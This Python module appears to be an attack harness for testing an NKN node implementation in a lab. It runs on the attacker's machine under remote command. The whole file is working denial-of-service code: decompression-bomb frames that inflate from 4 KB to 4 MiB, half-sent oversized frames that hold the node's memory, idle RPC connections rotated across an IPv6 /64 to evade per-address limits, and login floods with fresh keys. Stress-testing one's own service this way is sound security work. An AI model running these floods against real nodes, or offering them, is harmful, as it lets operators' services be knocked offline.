"""`python -m lab.attack.abuser`: clients that abuse a node, on plain sockets; commands come by `obey`.

It runs on the attacker's machine, with the lowest priority: on a machine of two cores what an attack costs
the attacker must not be taken for what it costs the node.
"""

from __future__ import annotations

import asyncio
import json
import os
import socket
import time
from contextlib import suppress

from lab.attack.client import UPGRADE, frame_head
from lab.attack.commands import obey
from nconnect.crypto.keys import Identity
from nconnect.wire.actions import SetClient
from nconnect.wire.nkn import OutboundMessage
from nconnect.wire.sigchain import login_digest

WS_PORT, RPC_PORT = 30002, 30003
TIMEOUT_S = 5.0
TEXT, BINARY, CLOSE = 1, 2, 8


class Refused(OSError):
    """The node refused or closed the connection."""


class Client:
    """An NKN client on a blocking socket, with a key of its own. Its frames are masked with zeros."""

    def __init__(self, node: str, source: str) -> None:
        family = socket.AF_INET6 if ":" in node else socket.AF_INET
        self.sock = socket.socket(family, socket.SOCK_STREAM)
        self.sock.settimeout(TIMEOUT_S)
        self.sock.bind((source, 0))
        self.sock.connect((node, WS_PORT))
        self._file = self.sock.makefile("rb")
        self._key = Identity(os.urandom(32))
        self.address = f"abuser.{self._key.public_key.hex()}"

    def upgrade(self) -> None:
        self.sock.sendall(UPGRADE)
        if b" 101 " not in self._file.readline():
            raise Refused("no upgrade")
        while self._file.readline() not in (b"\r\n", b""):
            pass

    def log_in(self) -> None:
        """Raises `Refused`."""
        self.upgrade()
        challenge = bytes.fromhex(json.loads(self.receive())["Challenge"])
        signature = self._key.sign(login_digest(challenge, bytes(32)))
        self.send(SetClient(self.address, bytes(32), signature).encode().encode(), TEXT)
        if json.loads(self.receive())["Error"]:
            raise Refused("no login")

    def send(self, data: bytes, opcode: int = BINARY) -> None:
        self.sock.sendall(frame_head(opcode, len(data)) + data)

    def receive(self) -> bytes:
        """The next message. Raises `Refused` when there will be none."""
        while True:
            head = self._file.read(2)
            if len(head) < 2 or head[0] & 15 == CLOSE:
                raise Refused("closed")
            size = head[1]
            if size >= 126:
                size = int.from_bytes(self._file.read(2 if size == 126 else 8), "big")
            data = self._file.read(size)
            if head[0] & 15 in (TEXT, BINARY):
                return data

    def close(self) -> None:
        self._file.close()
        self.sock.close()


class Abuser:
    """Commands by name. What is left open stays so until `let_go`."""

    def __init__(self) -> None:
        self._open: list[Client | socket.socket] = []

    async def do(self, name: str, *words: str) -> object:
        return getattr(self, name)(*words)

    def inflate(self, node: str, source: str, seconds: str) -> int:
        """Frames of 4 KB that inflate to 4 MiB, 50 at once, for so long; how many were sent."""
        client = Client(node, source)
        client.log_in()
        zeros = OutboundMessage((client.address,), (bytes(4_000_000),)).encode(compress=True)
        burst = (frame_head(BINARY, len(zeros)) + zeros) * 50
        sent, deadline = 0, time.monotonic() + float(seconds)
        with suppress(OSError):
            while time.monotonic() < deadline:
                client.sock.sendall(burst)
                sent += 50
                time.sleep(50 * len(zeros) / 2.8e6)
        client.close()
        return sent

    def half_frames(self, node: str, source: str, count: str) -> int:
        """Connections that send half of a large frame before they log in; how many bytes were taken."""
        sent = 0
        for _ in range(int(count)):
            with suppress(OSError):
                client = Client(node, source)
                self._open.append(client)
                client.upgrade()
                client.sock.settimeout(0.2)
                client.sock.sendall(frame_head(BINARY, 4 << 20))
                for _ in range(32):
                    client.sock.sendall(bytes(64 << 10))
                    sent += 64 << 10
        return sent

    def idle_rpc(self, node: str, source: str, count: str) -> int:
        """RPC connections on which nothing is asked, from a /64; how many were opened."""
        for n in range(int(count)):
            with suppress(OSError):
                sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
                self._open.append(sock)
                sock.settimeout(1)
                sock.bind((f"{source}{2 + n % 10:x}", 0))
                sock.connect((node, RPC_PORT))
        return len(self._open)

    def log_in_often(self, node: str, source: str, count: str) -> int:
        """Logins with fresh keys that stay; how many of them succeeded."""
        done = 0
        for _ in range(int(count)):
            with suppress(OSError, ValueError, KeyError):
                client = Client(node, source)
                self._open.append(client)
                client.log_in()
                done += 1
        return done

    def let_go(self) -> None:
        for each in self._open:
            each.close()
        self._open.clear()


async def _main() -> None:
    os.nice(19)
    await obey(Abuser().do)


if __name__ == "__main__":
    asyncio.run(_main())
